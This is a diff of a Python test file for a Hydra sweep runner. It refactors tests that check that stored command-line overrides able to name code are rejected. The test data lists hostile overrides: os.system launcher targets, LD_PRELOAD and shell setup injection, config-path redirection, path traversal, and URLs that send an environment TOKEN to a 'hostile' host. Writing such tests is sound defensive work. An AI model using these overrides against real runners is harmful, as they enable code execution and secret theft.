@@ -5,6 +5,7 @@ import re
 import shutil
 import stat
 from pathlib import Path
+from unittest.mock import Mock
 
 import pytest
 
@@ -13,7 +14,7 @@ from runner.config.hydra_sweep import JOB, launch_planned
 from runner.config.launcher import Launcher
 from runner.errors import Interrupted, SecurityError
 from runner.sweep.grid import merged_arguments
-from tests.fake_training import Call, FakeTraining
+from tests.fake_training import FakeTraining
 from tests.plugin_tables import EXAMPLES, restored_tables
 from tests.refusal import Capture, refused
 
@@ -71,10 +72,7 @@ def interrupted(fake_training: FakeTraining, folder: Path) -> FakeTraining:
     """A sweep over two seeds of a model that a plugin brings, stopped in its first job."""
     shutil.copytree(EXAMPLES / "own_model", folder, dirs_exist_ok=True)
 
-    def stop(call: Call) -> None:
-        raise Interrupted(2)
-
-    fake_training.act = stop
+    fake_training.act = Mock(side_effect=Interrupted(2))
     with restored_tables():
         assert main([*SWEEP, "hydra.sweep.dir=sweep", "seed=1,2"]) == 130
     fake_training.act = lambda call: None
@@ -132,53 +130,29 @@ def test_a_plan_of_an_earlier_version_names_no_plugins(interrupted: FakeTraining
         assert main([*PLUGIN, *RESUME]) == 0
 
 
-@pytest.mark.parametrize(
-    "argument",
-    [
-        "hydra.launcher._target_=os.system",
-        "+hydra.callbacks.x={_target_: os.system}",
-        "~hydra.launcher",
-        "hydra={launcher: {_target_: os.system}}",
-        "hydra/launcher=submitit_slurm",
-        "+hydra/callbacks=hostile",
-        "+model@hydra.callbacks=hostile",
-        "hydra.launcher.setup=[sh]",
-        "hydra.job.env_set.LD_PRELOAD=x.so",
-        "hydra.searchpath=[/hostile]",
-        "hydra.sweeper.params={hydra.launcher.n_jobs: 1}",
-        "hydra.sweep.subdir=${oc.env:TOKEN}",
-        "tracking.uri=http://hostile/${oc.env:TOKEN}",
-        "tracking.uri=http://hostile/${oc${a}.env:TOKEN}",
-        "model=../../hostile",
-        "--config-dir",
-        "--config-path=/hostile",
-        "-cd",
-        "--info",
-    ],
-)
+FOREIGN = r"""
+hydra.launcher._target_=os.system   +hydra.callbacks.x={_target_:os.system}   hydra={launcher:{_target_:os.system}}
+~hydra.launcher   hydra/launcher=submitit_slurm   +hydra/callbacks=hostile   +model@hydra.callbacks=hostile
+hydra.launcher.setup=[sh]   hydra.job.env_set.LD_PRELOAD=x.so   hydra.searchpath=[/hostile]
+hydra.sweeper.params={hydra.launcher.n_jobs:1}   hydra.sweep.subdir=${oc.env:TOKEN}
+tracking.uri=http://hostile/${oc.env:TOKEN}   tracking.uri=http://hostile/${oc${a}.env:TOKEN}
+model=../../hostile   --config-dir   --config-path=/hostile   -cd   --info
+"""
+PLAIN = """
+hydra/launcher=joblib   hydra.launcher.n_jobs=-1   hydra.sweeper.max_batch_size=null   hydra.job.chdir=true
+hydra.sweep.dir=multirun/${now:%Y-%m-%d}   hydra.sweep.subdir=${hydra.job.num}   +debug=overfit
+++optimizer.lr=0.1,0.2   ~train.monitor   cluster/launcher=local   data.path=../data
+model.hidden=[4,${train.batch_size}]   hydrated=1
+"""
+
+
+@pytest.mark.parametrize("argument", FOREIGN.split())
 def test_a_stored_argument_that_can_name_code_is_not_used_again(argument: str):
     with pytest.raises(SecurityError, match=re.escape(repr(argument))):
         merged_arguments(["-m", "seed=1,2", argument], ["a=1"])
 
 
-@pytest.mark.parametrize(
-    "argument",
-    [
-        "hydra/launcher=joblib",
-        "hydra.launcher.n_jobs=-1",
-        "hydra.sweeper.max_batch_size=null",
-        "hydra.job.chdir=true",
-        "hydra.sweep.dir=multirun/${now:%Y-%m-%d}",
-        "hydra.sweep.subdir=${hydra.job.num}",
-        "+debug=overfit",
-        "++optimizer.lr=0.1,0.2",
-        "~train.monitor",
-        "cluster/launcher=local",
-        "data.path=../data",
-        "model.hidden=[4,${train.batch_size}]",
-        "hydrated=1",
-    ],
-)
+@pytest.mark.parametrize("argument", PLAIN.split())
 def test_a_stored_argument_that_only_chooses_values_is_used_again(argument: str):
     assert merged_arguments(["-m", argument], ["a=1"]) == ["-m", argument, "a=1"]
 
